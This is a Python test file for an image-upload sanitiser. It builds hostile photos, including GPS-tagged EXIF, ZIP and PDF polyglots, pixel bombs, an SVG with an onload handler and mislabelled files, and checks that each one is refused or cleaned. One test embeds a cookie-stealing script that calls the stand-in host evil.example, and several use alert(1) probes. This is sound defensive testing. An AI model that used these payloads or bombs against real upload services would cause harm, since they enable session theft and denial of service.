"""PH-4: hostile files, made here. Each is refused before anything keeps it, or, where cleaning
is the right answer (a location, a payload in a comment), the cleaned photo has no trace of it:
not in its bytes, not in what Pillow reads of its EXIF.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from PIL import Image

from safecare.files.images import Refused, clean_image

from .test_images import XMP, encode, exif_with, jpeg, picture, png

ACCEPTED = "The photo must be a JPEG, PNG, HEIC or WebP file"
ATTACHED = "The photo has something else attached to it"
INCOMPLETE = "The photo is incomplete or damaged"
TOO_LARGE = "The photo is too large"


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_claiming(width: int, height: int) -> bytes:
    """A PNG whose header claims width by height, with a few bytes of pixel data: never allocated."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG with its frame header (SOF0) rewritten to claim width by height."""
    data = bytearray(jpeg((16, 16)))
    sof = data.find(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def untraced(data: bytes, *markers: bytes) -> None:
    """No EXIF, GPS, XMP or any of `markers` left in the cleaned bytes or in Pillow's view."""
    for marker in (b"Exif", b"GPS", b"xpacket", b"xmpmeta", b"PhoneMaker", *markers):
        assert marker not in data, marker
    image = Image.open(io.BytesIO(data))
    assert len(image.getexif()) == 0
    assert not {"exif", "xmp", "comment", "icc_profile"} & set(image.info)


# Cleaned, with no trace left ------------------------------------------------------------------


def test_ph4_a_gps_tagged_jpeg_keeps_no_location() -> None:
    data = encode(picture(), "JPEG", exif=exif_with(maker_note=b"MAKERNOTE-SERIAL-123"), xmp=XMP)
    assert b"GPS" in data and b"MAKERNOTE-SERIAL-123" in data  # the hostile file is what it says

    clean = clean_image(data, filename="IMG_1234.JPG")

    untraced(clean.data, b"MAKERNOTE-SERIAL-123", b"51,30.4N")


def test_ph4_a_heic_with_a_location_keeps_none() -> None:
    data = encode(picture(), "HEIF", exif=exif_with().tobytes(), xmp=XMP)
    assert b"GPS" in data and b"xmpmeta" in data

    clean = clean_image(data, declared_type="image/heic")

    assert clean.content_type == "image/jpeg"
    untraced(clean.data, b"51,30.4N")


def test_ph4_a_jpeg_with_html_in_a_comment_is_cleaned_of_it() -> None:
    payload = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"
    data = encode(picture(), "JPEG", comment=payload)
    assert payload in data

    clean = clean_image(data)

    untraced(clean.data, b"<script", b"evil.example", b"<html")


def test_ph4_an_embedded_thumbnail_does_not_survive() -> None:
    exif = exif_with()
    thumbnail = jpeg((64, 48), comment=b"THUMBNAIL-OF-THE-ORIGINAL")
    exif[0x0201] = 0  # JPEGInterchangeFormat, placed by the writer below
    data = encode(picture(), "JPEG", exif=exif.tobytes() + thumbnail)
    assert b"THUMBNAIL-OF-THE-ORIGINAL" in data

    untraced(clean_image(data).data, b"THUMBNAIL-OF-THE-ORIGINAL")


# Refused ----------------------------------------------------------------------------------------


def test_ph4_a_png_with_a_zip_appended_is_refused() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("payload.html", "<script>alert(1)</script>")
    data = png() + archive.getvalue()
    assert zipfile.is_zipfile(io.BytesIO(data))  # it is both: a polyglot

    with pytest.raises(Refused, match=ATTACHED):
        clean_image(data)


def test_ph4_a_jpeg_with_a_zip_after_its_end_is_refused() -> None:
    with pytest.raises(Refused, match=ATTACHED):
        clean_image(jpeg() + b"PK\x03\x04" + b"\x00" * 40)


def test_ph4_a_webp_with_bytes_beyond_its_riff_size_is_refused() -> None:
    with pytest.raises(Refused, match=ATTACHED):
        clean_image(encode(picture(), "WEBP") + b"<html><script>alert(1)</script>")


def test_ph4_a_heic_with_bytes_after_its_last_box_is_refused() -> None:
    with pytest.raises(Refused, match=ATTACHED):
        clean_image(encode(picture(), "HEIF") + b"%PDF-1.4 trailer")


def test_ph4_a_pdf_hidden_in_a_png_chunk_is_refused() -> None:
    data = png()
    end = data.rfind(b"\x00\x00\x00\x00IEND")
    hidden = data[:end] + chunk(b"tEXt", b"Comment\x00%PDF-1.4 1 0 obj") + data[end:]

    with pytest.raises(Refused, match=ATTACHED):
        clean_image(hidden)


def test_ph4_a_zip_hidden_in_a_jpeg_comment_is_refused() -> None:
    with pytest.raises(Refused, match=ATTACHED):
        clean_image(jpeg(comment=b"PK\x03\x04 a zip inside"))


def test_ph4_a_50000_by_50000_bomb_is_refused_from_its_header() -> None:
    data = png_claiming(50_000, 50_000)
    assert len(data) < 200  # 2.5 billion pixels claimed in a few bytes

    with pytest.raises(Refused, match=TOO_LARGE):
        clean_image(data)


def test_ph4_a_bomb_within_the_side_but_over_the_pixels_is_refused(settings) -> None:
    settings.SAFECARE_IMAGE_MAX_SIDE = 60_000

    with pytest.raises(Refused, match=TOO_LARGE):
        clean_image(png_claiming(10_000, 10_000))  # 100 megapixels, the limit is 50
    with pytest.raises(Refused, match=TOO_LARGE):
        clean_image(jpeg_claiming(40_000, 40_000))  # Pillow reads the JPEG's size from its header


def test_ph4_a_truncated_file_is_refused() -> None:
    for whole in (jpeg(), png(), encode(picture(), "WEBP"), encode(picture(), "HEIF")):
        with pytest.raises(Refused, match=r"incomplete|damaged|cannot be read"):
            clean_image(whole[: len(whole) * 2 // 3])


def test_ph4_a_pdf_named_jpg_is_refused() -> None:
    pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"

    with pytest.raises(Refused, match="The file says it is a JPEG photo but it is a PDF document"):
        clean_image(pdf, filename="photo.jpg")
    with pytest.raises(Refused, match=ACCEPTED):
        clean_image(pdf)


def test_ph4_an_svg_is_refused() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'

    with pytest.raises(Refused, match=ACCEPTED):
        clean_image(svg)
    with pytest.raises(Refused, match="The file says it is a PNG picture but it is an SVG drawing"):
        clean_image(svg, declared_type="image/png")


def test_ph4_a_gif_is_refused() -> None:
    with pytest.raises(Refused, match=ACCEPTED):
        clean_image(encode(picture(mode="P"), "GIF"))


def test_ph4_an_empty_file_is_refused() -> None:
    with pytest.raises(Refused, match="The file is empty"):
        clean_image(b"")


def test_ph4_a_file_over_the_byte_limit_is_refused_before_it_is_read() -> None:
    data = b"\xff\xd8\xff" + b"\x00" * (20 * 1024 * 1024)

    with pytest.raises(Refused, match="The photo is too large: it must be smaller than 20 MB"):
        clean_image(data)


def test_ph4_a_file_of_no_known_kind_named_as_a_photo_is_refused() -> None:
    with pytest.raises(Refused, match="The file says it is a HEIC photo but it is not"):
        clean_image(b"just some words", filename="IMG_0001.HEIC")
